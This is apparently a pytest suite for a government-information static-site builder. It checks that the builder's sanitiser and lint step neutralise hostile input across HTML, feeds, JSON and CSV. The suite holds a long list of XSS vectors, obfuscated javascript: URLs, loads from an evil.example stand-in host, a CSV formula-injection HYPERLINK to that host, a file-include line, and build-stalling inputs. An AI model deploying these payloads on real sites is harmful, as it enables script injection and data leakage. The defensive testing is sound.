"""Markup is safe by construction: hostile titles, summaries, registry names, bodies and narratives
are built into a real site, and every output file is parsed the way a browser, feed reader,
spreadsheet or crawler reads it.

Bodies are checked twice: ``check`` names each dangerous construct at its line (errors block the
build), and with that check switched off the site is still clean — the sanitiser alone holds.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import pytest

from attachkit import pdf
from bs4 import BeautifulSoup, Comment

from conftest import ORGANS, TOPICS
from plugins.core import pipeline
from plugins.core.wall import markup_check, sanitize
from plugins.core.pages.page import NONCE

MARK = "GKX"
"""In every payload: ``alert('GKX')``; the browser test counts its executions."""

TITLE = f"""</title><script>alert('{MARK}1')</script><img src=x onerror=alert('{MARK}2')>" onmouseover="alert('{MARK}3') [链](javascript:alert('{MARK}4')) *强调* {{: onclick="alert('{MARK}5')" }} ##"""
SUMMARY = f"""\"><script>alert('{MARK}6')</script>' onfocus='alert(1) =HYPERLINK("http://evil.example/?q="&A1)"""
ORGAN_NAME = f"""财政局</a><script>alert('{MARK}7')</script>"""
TOPIC_NAME = f"""<img src=x onerror=alert('{MARK}8')>综合"""
ATTACHMENT_TITLE = f"""附件"><script>alert('{MARK}9')</script>"""
SECRET_NOTE = "内部意见GKC领导未同意"

BODY = f"""\
正文第一段。

<!-- {SECRET_NOTE} -->

<script>alert('{MARK}10')</script>

<img src="x.png" onerror="alert('{MARK}11')">

[点我](javascript:alert('{MARK}12')) [混淆](jav&#x09;ascript:alert('{MARK}13')) [大写](JAVASCRIPT:alert('{MARK}14'))

<a href="  javascript:alert('{MARK}15')">空格</a> <a href="data:text/html,<script>alert('{MARK}16')</script>">数据</a>

<iframe src="https://evil.example/frame"></iframe>

<style>body {{ background: url(https://evil.example/bg.png) }}</style>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<svg><script>alert('{MARK}17')</script><a xlink:href="javascript:alert('{MARK}18')">x</a></svg>

<form action="https://evil.example/"><input name=q><button>提交</button></form>

![外站图片](https://evil.example/p.png) <img src="//evil.example/q.png">

<script src="https://evil.example/s.js"></script>

[全角](http：//www.example.gov.cn/) [坏网址](//a：b) [坏IPv6](http://[::1)

<!--gk-raw-0--> <!--gk-raw-{NONCE}-0--> <!--gk-raw-99-->

## 小标题 {{: #x" onmouseover="alert('{MARK}19') data-toc-label="<img src=x onerror=alert('{MARK}20')>" }}

| 列一 | 列二 |
|:---|---:|
| 1 | 2 |

!!! note "提示"
    提示内容

<div onclick="alert('{MARK}21')">未闭合的块，其后的一切都在块里
"""


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def hostile_files(body: str = BODY) -> dict[str, str]:
    entry = f"""\
---
kind: policy
title: {_quoted(TITLE)}
index_no: 114419000073302510/2024-00001
organ: demo-finance
doc_no: 示府办〔2024〕3号
written: 2024-03-01
published: 2024-03-05
topics: [zwgk]
disclosure: 主动公开
validity: 有效
summary: {_quoted(SUMMARY)}
keywords: [{_quoted('"><svg onload=alert(1)>')}]
attachments:
  - file: a.pdf
    title: {_quoted(ATTACHMENT_TITLE)}
---
{body}"""
    return {
        "catalog/policy/2024/hostile.md": entry,
        "catalog/policy/2024/a.pdf": pdf("attachment"),
    }


def _organs_yaml() -> str:
    return ORGANS.replace("name: 示例市财政局", "name: " + _quoted(ORGAN_NAME))


def _topics_yaml() -> str:
    return TOPICS.replace("name: 综合政务\\政务公开", "name: " + _quoted(TOPIC_NAME))


def site_files(body: str = BODY) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = dict(hostile_files(body))
    files["catalog/organs.yml"] = _organs_yaml()
    files["catalog/topics.yml"] = _topics_yaml()
    return files


PLUGINS = ["gk-catalog", "gk-search", "gk-exports"]


@pytest.fixture
def hostile_site(build_site, monkeypatch) -> Path:
    """The hostile catalog built with the body check switched off: only the sanitiser stands."""
    monkeypatch.setattr(markup_check, "check_public", lambda *args, **kwargs: [])
    return build_site(site_files(), plugins=PLUGINS, site_url="https://xxgk.example.gov.cn/")


# --- what a browser would run or load ------------------------------------------

def unsafe_in_html(text: str) -> list[str]:
    """Everything in a page that would run, load from another host, or keep an editor's comment."""
    soup = BeautifulSoup(text, "html.parser")
    problems = []
    for script in soup.find_all("script"):
        src = script.get("src")
        if script.get("type") == "application/ld+json":  # a data block (当前位置 BreadcrumbList): never run, and closed only by its own tag
            data = script.get_text()
            if "<" in data or ">" in data:
                problems.append(f"JSON-LD with a raw < or > {data[:60]}")
            else:
                json.loads(data)
            continue
        if src:
            if sanitize.external_host(src) or "assets/javascripts/" not in src:
                problems.append(f"script src {src}")
        elif MARK in script.get_text() or "alert(" in script.get_text():
            problems.append(f"inline script {script.get_text()[:60]}")  # the theme's own scripts hold neither
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                problems.append(f"<{element.name} {name}=>")
            if name.lower() in sanitize.URL_ATTRIBUTES and sanitize.unsafe_url(value or ""):
                problems.append(f"<{element.name} {name}={value[:40]}>")
            if name.lower() in ("src", "srcset", "poster") and sanitize.external_host(value or "", "xxgk.example.gov.cn"):
                problems.append(f"<{element.name} {name}={value[:40]}> loads from another host")
        if element.name in sanitize.EMBED_TAGS - {"svg", "input", "button", "select", "option", "form", "link", "meta", "source", "template", "noscript"}:
            problems.append(f"<{element.name}>")
        if element.name == "meta" and element.get("http-equiv"):
            problems.append("meta http-equiv")
        if element.name == "base":
            problems.append("base")
        if element.name == "form" and element.get("action"):
            problems.append("form")
    for comment in soup.find_all(string=lambda s: isinstance(s, Comment)):
        if MARK in comment or "GKC" in comment or "gk-raw" in comment:
            problems.append(f"comment {comment[:40]}")
    return problems


def test_every_page_of_a_hostile_site_runs_nothing_and_shows_the_text(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert unsafe_in_html(text) == [], page
        assert "GKC" not in text and "gk-raw" not in text and "\x00" not in text, page
        assert not re.search(r"<title>[^<]*<(?!/title>)", text), page  # nothing closes <title> early
    entry = BeautifulSoup((hostile_site / "xxgk/114419000073302510/2024-00001/index.html").read_text(encoding="utf-8"), "html.parser")
    assert entry.h1.get_text() == " ".join(TITLE.split())  # the title as written: plain text, not Markdown
    assert entry.h1.find_all(True) == []
    assert entry.title.get_text() == " ".join(TITLE.split()) + " - 测试目录"
    assert entry.find("meta", attrs={"name": "description"})["content"] == SUMMARY
    assert entry.find("meta", attrs={"name": "ArticleTitle"})["content"] == " ".join(TITLE.split())
    assert entry.find("meta", attrs={"name": "ContentSource"})["content"] == ORGAN_NAME
    assert entry.select_one("p.gk-summary").get_text() == "内容概述：" + SUMMARY
    assert ATTACHMENT_TITLE in entry.select_one("ul.gk-attachments").get_text()
    assert ORGAN_NAME in entry.select_one("table.gk-meta").get_text() and TOPIC_NAME in entry.select_one("table.gk-meta").get_text()
    body = entry.select_one("div.gk-body")
    assert "正文第一段。" in body.get_text() and "提示内容" in body.get_text()
    assert body.table is not None and body.select_one("div.admonition.note") is not None  # Markdown still works
    assert [a.get("href") for a in body.find_all("a") if a.get_text() in ("点我", "混淆", "大写", "空格", "数据")] == ["", "", "", None, None]
    toc = [a for a in entry.select(".md-nav--secondary a")]
    assert toc and all('"' not in a["href"] and "<" not in a["href"] for a in toc)
    listing = BeautifulSoup((hostile_site / "catalog/kind/policy/index.html").read_text(encoding="utf-8"), "html.parser")
    assert listing.select_one("table.gk-listing a").get_text() == " ".join(TITLE.split()) or listing.select_one("table.gk-listing a").get_text() == TITLE
    organ_page = BeautifulSoup((hostile_site / "catalog/organ/demo-finance/index.html").read_text(encoding="utf-8"), "html.parser")
    assert organ_page.h1.get_text() == "发布机构：" + ORGAN_NAME


def test_feeds_sitemap_and_data_of_a_hostile_site_carry_the_text_as_text(hostile_site):
    feed = feedparser.parse((hostile_site / "feed.xml").read_bytes())
    assert not feed.bozo, feed.bozo_exception
    assert feed.entries[0].title == TITLE
    for path in hostile_site.rglob("*.xml"):
        ET.fromstring(path.read_bytes())  # well-formed: nothing closed an element early
    for path in hostile_site.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    records = json.loads((hostile_site / "data/policy.json").read_text(encoding="utf-8"))["entries"]
    assert records[0]["title"] == TITLE and records[0]["summary"] == SUMMARY
    rows = list(csv.reader(io.StringIO((hostile_site / "data/policy.csv").read_text(encoding="utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert row[header.index("内容概述")] == SUMMARY  # starts with ", not a formula
    for cells in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells


def test_a_formula_in_a_text_cell_becomes_text():
    assert sanitize.csv_text('=HYPERLINK("http://evil.example")') == """'=HYPERLINK("http://evil.example")"""
    assert sanitize.csv_text("@SUM(A1)") == "'@SUM(A1)" and sanitize.csv_text("+1+1") == "'+1+1"
    assert sanitize.csv_text("-8.2") == "-8.2" and sanitize.csv_text("-4.30") == "-4.30"  # numbers stay numbers
    assert sanitize.csv_text("普通文字") == "普通文字"


def test_titles_are_plain_text_for_markdown():
    assert sanitize.markdown_text("东莞市财政局关于印发《办法》的通知") == "东莞市财政局关于印发《办法》的通知"
    assert sanitize.markdown_text("A & B") == "A &amp; B"
    inert = sanitize.markdown_text("[x](javascript:alert(1)) *a* {: onclick=x } ##")
    assert not re.search(r"[\[\]*{}#:]", inert.replace("&#", ""))


# --- check: each dangerous construct at its line --------------------------------


def _line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def test_check_names_each_dangerous_construct_at_its_body_line(make_project):
    root = make_project(site_files())
    result = pipeline.run(root / "catalog", root)
    source = (root / "catalog/policy/2024/hostile.md").read_text(encoding="utf-8")
    found = [(d.code, d.line, d.severity.value) for d in result.diagnostics if d.file.endswith("hostile.md")]
    expect = {
        ("body-comment", _line_of(source, SECRET_NOTE), "warning"),
        ("body-script", _line_of(source, f"<script>alert('{MARK}10')"), "error"),
        ("body-script", _line_of(source, "onerror=\"alert"), "error"),
        ("body-script", _line_of(source, "[点我]"), "error"),
        ("body-script", _line_of(source, "<a href=\"  javascript"), "error"),
        ("body-embed", _line_of(source, "<iframe"), "error"),
        ("body-embed", _line_of(source, "<style>"), "error"),
        ("body-embed", _line_of(source, "<meta"), "error"),
        ("body-embed", _line_of(source, "<base"), "error"),
        ("body-embed", _line_of(source, "<svg>"), "error"),
        ("body-embed", _line_of(source, "<form"), "error"),
        ("body-external-resource", _line_of(source, "![外站图片]"), "error"),
        ("body-link-fullwidth", _line_of(source, "[全角]"), "warning"),
        ("body-bad-url", _line_of(source, "[坏网址]"), "error"),
        ("body-script", _line_of(source, "<div onclick"), "error"),
    }
    assert expect <= set(found), sorted(expect - set(found))
    script_lines = [d for d in result.diagnostics if d.code == "body-script"]
    assert all("不得在正文中写脚本" in d.message and d.field == "body" and d.label == "正文" for d in script_lines)
    assert all(SECRET_NOTE not in str(d) and MARK not in str(d) for d in result.diagnostics)  # the text is never quoted
    assert result.public is None  # errors: nothing is published


def test_a_yaml_body_is_located_in_its_file(make_project):
    entry = """\
kind: policy
title: 示例
index_no: 114419000073302510/2024-00001
organ: demo-finance
published: 2024-03-05
topics: [zwgk]
disclosure: 主动公开
validity: 有效
body: |
  第一段。

  <img src="a.png" onload="x()">
"""
    root = make_project({"catalog/policy/2024/p.yml": entry})
    result = pipeline.run(root / "catalog", root)
    [found] = [d for d in result.diagnostics if d.code == "body-script"]
    assert (found.file, found.line) == ("catalog/policy/2024/p.yml", 12)


def test_ordinary_bodies_and_code_examples_give_no_message(make_project):
    body = """\
各区人民政府：

| 项目 | 金额 |
|---|---|
| 合计 | 1 |

见 [信息公开指南](https://www.example.gov.cn/guide/) 和 <https://www.example.gov.cn/>，邮箱 [写信](mailto:a@example.gov.cn)。

  缩进的一段。

代码示例：`<script>` 不会运行。
"""
    files = site_files(body)
    files["catalog/policy/2024/hostile.md"] = files["catalog/policy/2024/hostile.md"].replace(TITLE.replace("'", "''"), "示例").replace(SUMMARY.replace("'", "''"), "概述")
    files["catalog/organs.yml"] = ORGANS
    files["catalog/topics.yml"] = TOPICS
    root = make_project(files)
    result = pipeline.run(root / "catalog", root)
    assert [str(d) for d in result.diagnostics if d.code.startswith("body-")] == []
    assert result.public is not None


def test_deep_nesting_is_a_located_error_not_a_recursion_error(make_project):
    body = "".join("  " * i + "- 层\n" for i in range(80))
    files = site_files(body)
    files["catalog/organs.yml"] = ORGANS
    files["catalog/topics.yml"] = TOPICS
    root = make_project(files)
    result = pipeline.run(root / "catalog", root)
    [found] = [d for d in result.diagnostics if d.code == "body-too-deep"]
    assert found.is_error and found.line > 1
    assert [f.code for f in markup_check.findings("<div>" * 150 + "正文")] == ["body-too-deep"]
    assert markup_check.findings("<p>段落" * 500 + "<div><span>x</span></div>" * 500) == []  # many tags, shallow


def test_unparsable_link_urls_and_typed_marks_build_without_a_traceback(build_site):
    body = f"[坏网址](//a：b) [坏IPv6](http://[::1) ![图](http://[x)\n\n<!--gk-raw-0--> <!--gk-raw-99--> <!--gk-raw-{NONCE}-5-->\n\n正文。\n"
    entry = f"""\
---
kind: policy
title: 示例
index_no: 114419000073302510/2024-00001
organ: demo-office
published: 2024-03-05
topics: [zwgk]
disclosure: 主动公开
validity: 有效
---
{body}"""
    from plugins.core.wall import markup_check as module

    original = module.check_public
    module.check_public = lambda *a, **k: []  # the sanitiser and SafeLinks alone
    try:
        site = build_site({"catalog/policy/2024/p.md": entry})
    finally:
        module.check_public = original
    page = (site / "xxgk/114419000073302510/2024-00001/index.html").read_text(encoding="utf-8")
    assert "正文。" in page and "gk-raw" not in page
    soup = BeautifulSoup(page, "html.parser")
    assert [a.get("href") for a in soup.select("div.gk-body a")] == ["", ""]


def test_registry_ids_that_would_break_out_of_a_url_are_refused_at_their_line(make_project):
    organs = ORGANS.replace("id: demo-finance", """id: 'fin" onmouseover="alert(1)'""")
    topics = TOPICS.replace("id: zwgk", """id: 'zw"><script>alert(1)</script>'""")
    root = make_project({"catalog/organs.yml": organs, "catalog/topics.yml": topics})
    result = pipeline.run(root / "catalog", root)
    found = sorted((d.file, d.line) for d in result.diagnostics if d.code == "registry-id-format")
    assert found == [("catalog/organs.yml", 4), ("catalog/topics.yml", 1)]
    assert result.public is None


def test_a_hostile_procurement_project_and_its_pages_run_nothing(build_site, monkeypatch):
    from test_kinds_procurement import files as chain

    payload = f"""<img src=x onerror=alert('{MARK}p')>[链](javascript:alert(1))*x*"""
    project_files = {
        path: text.replace("project_name: 示例市财政局预算管理一体化系统运维服务项目", "project_name: " + _quoted("运维项目" + payload))
        .replace("agency: 示例市公共资源交易中心", "agency: " + _quoted("交易中心" + payload))
        .replace("name: 示例信息科技有限公司", "name: " + _quoted("供应商" + payload))
        .replace("reason: 投标截止时间顺延。", "reason: " + _quoted("顺延" + payload))
        for path, text in chain().items()
    }
    monkeypatch.setattr(markup_check, "check_public", lambda *args, **kwargs: [])
    site = build_site(project_files, plugins=PLUGINS, site_url="https://xxgk.example.gov.cn/")
    pages = sorted(site.rglob("*.html"))
    project_pages = [p for p in pages if "/procurement/project" in p.as_posix()]
    assert project_pages
    for page in pages:
        assert unsafe_in_html(page.read_text(encoding="utf-8")) == [], page
    [project] = [p for p in project_pages if "/project/" in p.as_posix()]
    soup = BeautifulSoup(project.read_text(encoding="utf-8"), "html.parser")
    assert soup.h1.get_text() == "运维项目" + payload and soup.h1.find_all(True) == []
    assert ("供应商" + payload) in soup.get_text()
    for path in site.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))  # OCDS packages stay valid JSON


def test_a_script_in_an_annual_report_narrative_is_located_and_never_published(make_project, build_site, monkeypatch):
    from kinds_fixtures import ANNUAL_REPORT

    text = ANNUAL_REPORT.replace(
        "preface: 本报告所列数据的统计期限自2024年1月1日起至2024年12月31日止。",
        f"""preface: '本报告<img src=x onerror="alert(''{MARK}a'')"> 所列数据 <!-- {SECRET_NOTE} -->'""",
    )
    files = {"catalog/annual_report/2025/report.yml": text}
    root = make_project(files)
    result = pipeline.run(root / "catalog", root)
    found = [(d.code, d.field, d.line) for d in result.diagnostics if d.code.startswith("body-")]
    preface_line = _line_of(text, "preface:")
    assert ("body-script", "preface", preface_line) in found and ("body-comment", "preface", preface_line) in found
    monkeypatch.setattr(markup_check, "check_public", lambda *args, **kwargs: [])
    site = build_site(files, plugins=PLUGINS)
    [page] = [p for p in site.rglob("*.html") if "年度报告" in p.read_text(encoding="utf-8") and "gk-narrative" in p.read_text(encoding="utf-8")]
    html = page.read_text(encoding="utf-8")
    assert unsafe_in_html(html) == [] and "GKC" not in html
    soup = BeautifulSoup(html, "html.parser")
    assert "本报告" in soup.select_one("div.gk-narrative").get_text()
    assert "本报告" not in soup.select_one("table.gk-meta").get_text()  # narratives are sections, not metadata rows
    overview = [d for d in soup.select("div.gk-narrative") if "主动公开" in d.get_text()]
    assert overview and overview[0].strong is not None  # narratives are still Markdown


def test_search_text_leaves_out_comments_and_scripts():
    from plugins.core.search.documents import plain_text

    text = plain_text(f"公开内容 <!-- {SECRET_NOTE} -> 暂缓 --> 续 <script>var a = 1 > 0; alert('{MARK}')</script> 完 <!-- 未闭合 {SECRET_NOTE}")
    assert text == "公开内容 续 完"


def test_control_characters_in_a_title_keep_every_feed_well_formed(build_site):
    entry = """\
kind: policy
title: "标题\\x01\\x02wzxhzdk:0\\x03\\x0b尾"
index_no: 11441900007330235A/2024-00001
organ: demo-office
published: 2024-03-05
topics: [zwgk]
disclosure: 主动公开
validity: 有效
summary: "概述\\x1f"
body: 正文。
"""
    site = build_site({"catalog/policy/2024/p.yml": entry}, plugins=PLUGINS, site_url="https://xxgk.example.gov.cn/")
    for path in site.rglob("*.xml"):
        ET.fromstring(path.read_bytes())
    feed = feedparser.parse((site / "feed.xml").read_bytes())
    assert not feed.bozo and feed.entries[0].title == "标题wzxhzdk:0尾"
    soup = BeautifulSoup((site / "xxgk/11441900007330235A/2024-00001/index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.h1.get_text() == "标题wzxhzdk:0 尾"


VECTORS = [
    '<a href="jav&#x09;ascript:alert(1)">a</a>', '<a href="&#106;avascript:alert(1)">b</a>', '<a href="java\nscript:alert(1)">c</a>',
    '<a href=" JaVaScRiPt:alert(1)">d</a>', '<a href="vbscript:msgbox(1)">e</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">f</a>',
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><circle r=1 /></svg>", "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>', '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<details open ontoggle=alert(1)><summary>s</summary></details>', '<a href="#" style="background:url(javascript:alert(1))">g</a>',
    '<td style="text-align: right; background: url(https://evil.example/t.png)">1</td>', "<!-- 内部 --><p>h</p>",
    '<img src="https://evil.example/p.png">', '<img src="//evil.example/p.png">', '<img src="\\\\evil.example/p.png">', '<img src="/\\evil.example/p.png">',
    '<img src="\\/evil.example/p.png">', '<img src="https:\\\\evil.example/p.png">', '<img src="/own.png">', '<img src="https://xxgk.example.gov.cn/own.png">',
    "<template><script>alert(1)</script></template>", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/s.css">', '<style>@import "https://evil.example/s.css";</style>', "<xmp><script>alert(1)</script></xmp>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_the_sanitiser_leaves_nothing_that_runs_or_loads(vector):
    cleaned = sanitize.clean(f"<div>{vector}</div>", "xxgk.example.gov.cn")
    assert unsafe_in_html(cleaned) == [], cleaned
    soup = BeautifulSoup(cleaned, "html.parser")
    assert not soup.find_all(string=lambda s: isinstance(s, Comment))
    assert not re.search(r"url\(|@import|javascript|vbscript|evil\.example", cleaned, re.I), cleaned
    if "own.png" in vector:
        assert soup.img is not None and soup.img.get("src"), cleaned  # the site's own images stay


SLOW_BODIES = {
    "square brackets": "[" * 40000,
    "brackets on short lines": ("[" * 70 + "\n") * 600,
    "link destinations never closed": "[x](" * 10000,
    "tags never closed": "<a " * 13000,
    "tags never closed behind quote markers": "> <a\n" * 8000,
    "declarations": "<![ " * 10000,
    "comments never closed": "<!--" * 10000,
    "footnote-style references": "[^" * 20000,
    "emphasis in one long paragraph": "*a" * 80000,
    "escapes in one long paragraph": "\\" * 150000,
    "admonitions without blank lines": "!!! note\n" * 20000,
    "markdown inside an HTML block": "<div markdown=\"1\">\n" + "**粗** *斜* [x](y) " * 8000 + "\n</div>",
}


@pytest.mark.parametrize("name", sorted(SLOW_BODIES))
def test_a_body_that_would_stall_the_build_is_a_quick_located_error(make_project, name):
    import time

    files = site_files("第一段。\n\n" + SLOW_BODIES[name] + "\n")
    files["catalog/policy/2024/hostile.md"] = files["catalog/policy/2024/hostile.md"].replace(TITLE.replace("'", "''"), "示例").replace(SUMMARY.replace("'", "''"), "概述")
    files["catalog/organs.yml"] = ORGANS
    files["catalog/topics.yml"] = TOPICS
    root = make_project(files)
    started = time.perf_counter()
    result = pipeline.run(root / "catalog", root)
    assert time.perf_counter() - started < 5  # Markdown alone took minutes on each
    [found] = [d for d in result.diagnostics if d.code.startswith("body-")]
    assert found.code == "body-too-complex" and found.is_error
    assert (found.file, found.line) == ("catalog/policy/2024/hostile.md", 20)  # the line where the brackets start
    assert result.public is None or not result.ok


def test_a_body_past_the_length_limit_is_refused_and_an_ordinary_long_one_is_not():
    row = "| 第(一)项 | [附件](a.pdf) | <span>说明</span> | `代码` | *强调* |\n"
    ordinary = "| 项 | 链接 | 说明 | 代码 | 强调 |\n|---|---|---|---|---|\n" + row * (markup_check.MAX_BODY_CHARS // len(row) - 2)
    assert len(ordinary) <= markup_check.MAX_BODY_CHARS
    assert [f.code for f in markup_check.findings(ordinary)] == []
    assert [f.code for f in markup_check.findings(("正文。" * 30 + "\n\n") * 3000)] == ["body-too-long"]
    assert [f.code for f in markup_check.findings("x < 5，y < 3。" * 10000)] == []  # a comparison is text, not a tag
    line = "第一条 为了规范**政府信息公开**工作，根据《条例》制定本办法（见[附件](a.pdf)）。\n"
    pasted = line * 4000  # a whole document pasted without blank lines: one paragraph, 1.5 s to render
    html_table = "<table>" + "".join(f"<tr><td>{i}</td><td><a href='x{i}.pdf'>附件</a></td></tr>" for i in range(3000)) + "</table>"
    md_table = "| 序号 | 附件 |\n|---|---|\n" + "".join(f"| **{i}** | [附件](x{i}.pdf) |\n" for i in range(5000))
    items = "".join(f"- 第{i}项：**要点** [链接](x{i}.pdf) `代码`\n" for i in range(3000))
    for body in (pasted, html_table, md_table, items):
        assert len(body) <= markup_check.MAX_BODY_CHARS and [f.code for f in markup_check.findings(body)] == []


def test_many_autolinks_are_links_not_nesting():
    body = "".join(f"- <https://www.example.gov.cn/{n}.html> 或 <ban{n}@example.gov.cn>\n" for n in range(300))
    assert markup_check.findings(body) == []


def test_a_comment_in_a_title_or_keyword_is_an_error_at_its_column(make_project):
    """Plain-text fields are shown as written: a comment there is published, not hidden."""
    from conftest import POLICY

    entry = POLICY.replace("title: 示例市政务公开工作要点", 'title: "示例<!-- 内部：领导未同意 -->要点"\nsummary: "<b>概述</b>，x < 5"\nkeywords: [政务公开, "培训<!--待定-->"]')
    withheld = POLICY.replace("title: 示例市政务公开工作要点", 'title: "请示<!-- 内部 -->"').replace("disclosure: 主动公开", "disclosure: 不予公开\nexemption: process-info").replace("3号", "4号")
    root = make_project({"catalog/policy/2024/a.yml": entry, "catalog/policy/2024/b.yml": withheld})
    result = pipeline.run(root / "catalog", root)
    found = sorted((d.file, d.line, d.column, d.field, d.code, d.severity.value) for d in result.diagnostics if d.code.startswith("field-"))
    assert found == [
        ("catalog/policy/2024/a.yml", 2, 11, "title", "field-html-comment", "error"),
        ("catalog/policy/2024/a.yml", 3, 11, "summary", "field-markup-shown", "warning"),
        ("catalog/policy/2024/a.yml", 4, 21, "keywords[1]", "field-html-comment", "error"),
    ]  # the withheld entry is never published, so never named
    assert all("领导未同意" not in str(d) and "待定" not in str(d) and "b.yml" not in str(d) for d in result.diagnostics)  # values not quoted
    assert [f.code for f in markup_check.plain_findings("第<1>号 a < b，<2024>年")] == []  # angle brackets that are not tags


def test_an_extension_that_includes_files_is_refused_before_any_page(build_site, caplog):
    """With pymdownx.snippets on, a body line --8<-- ".git/config" would publish the checkout token."""
    from mkdocs.exceptions import Abort, PluginError

    files = site_files("正文。\n\n--8<-- \"mkdocs.yml\"\n")
    files["catalog/organs.yml"] = ORGANS
    files["catalog/topics.yml"] = TOPICS
    files["catalog/policy/2024/hostile.md"] = files["catalog/policy/2024/hostile.md"].replace(TITLE.replace("'", "''"), "示例").replace(SUMMARY.replace("'", "''"), "概述")
    with pytest.raises((Abort, PluginError)):
        build_site(files, markdown_extensions=["tables", "pymdownx.snippets"])
    [message] = [r.getMessage() for r in caplog.records if "config-file-including" in r.getMessage()]
    assert "mkdocs.yml:4:1: markdown_extensions" in message and "pymdownx.snippets" in message  # file, line, key
    assert sanitize.config_problems(["tables", "attr_list", "pymdownx.details"], ["gk-catalog", "gk-search"], "") == []


def test_check_names_a_file_including_plugin_at_its_line(make_project):
    import subprocess
    import sys

    root = make_project({"catalog/policy/2024/a.yml": __import__("conftest").POLICY}, plugins=["gk-catalog", "macros"])
    build_py = Path(__file__).resolve().parent.parent / "build.py"
    proc = subprocess.run([sys.executable, str(build_py), "-f", str(root / "mkdocs.yml"), "check"], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
    [line] = [x for x in proc.stdout.splitlines() if "config-file-including" in x]
    assert line.startswith("错误 mkdocs.yml:") and "macros" in line and "{{ config }}" in line


def test_a_comment_in_an_organ_name_is_an_error_at_its_line(make_project):
    organs = ORGANS.replace("name: 示例市财政局", 'name: "示例市财政局<!-- 拟撤并 -->"')
    root = make_project({"catalog/organs.yml": organs, "catalog/policy/2024/a.yml": __import__("conftest").POLICY})
    result = pipeline.run(root / "catalog", root)
    [found] = [d for d in result.diagnostics if d.code.startswith("field-")]
    assert (found.file, found.line, found.field, found.code, found.is_error) == ("catalog/organs.yml", 5, "[1].name", "field-html-comment", True)
    assert "拟撤并" not in str(found)
